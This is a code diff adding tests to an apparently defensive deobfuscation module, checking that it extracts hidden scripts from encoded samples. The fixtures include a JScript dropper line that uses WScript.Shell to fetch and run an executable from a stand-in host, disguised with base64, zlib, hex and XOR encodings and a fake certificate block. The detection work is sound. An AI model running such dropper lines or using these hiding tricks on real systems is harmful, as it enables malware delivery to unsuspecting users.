@@ -140,6 +140,38 @@ def test_text_under_a_repeating_key_in_base64_is_read(module: Guest) -> None:
     assert plain in contents(module, script, "a.js")
 
 
+DROPPER = b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c start http://bad-drop.example/a.exe', 0);"
+
+
+def hidden_in(module: Guest, sample: bytes, name: str = "a.txt") -> list[tuple[str, bytes]]:
+    """The children: their names, and what is in them."""
+    facts = msgspec.json.decode(module.call("analyze", sample, name).data, type=DeobfuscationFacts)
+    taken = (module.call("extract", sample, name, index=child.index).data for child in facts.children)
+    parts = [base64.b64decode(msgspec.json.decode(data)["content"]) for data in taken]
+    return [(child.name, part) for child, part in zip(facts.children, parts, strict=True)]
+
+
+@pytest.mark.parametrize(
+    "hide",
+    [
+        base64.b64encode,
+        lambda data: base64.b64encode(zlib.compress(data)[2:-4]),
+        lambda data: data.hex().encode(),
+        lambda data: bytes(byte ^ 0x5A for byte in data * 2),
+        lambda data: base64.b64encode(bytes(byte ^ 0x5A for byte in data * 4)),
+    ],
+)
+def test_a_script_that_runs_a_command_is_taken_out(module: Guest, hide: Callable[[bytes], bytes]) -> None:
+    assert any(name.endswith(".js") and DROPPER in part for name, part in hidden_in(module, hide(DROPPER)))
+
+
+def test_what_stands_behind_encoded_lines_is_not_taken_for_one(module: Guest) -> None:
+    script = b"new ActiveXObject('WScript.Shell').Run('cmd /c http://b.example/a')"
+    encoded = base64.b64encode(script)
+    sample = b"@echo off\r\n(echo " + encoded + b"\r\necho -----END CERTIFICATE-----)>a\r\n"
+    assert script in [part for _, part in hidden_in(module, sample, "a.bat")]
+
+
 def test_chains_of_steps_are_run(module: Guest) -> None:
     data = base64.b64encode(zlib.compress(b"hello, world"))[::-1]
     assert decode(module, data, ("reverse", {}), ("base64", {}), ("zlib", {})) == b"hello, world"
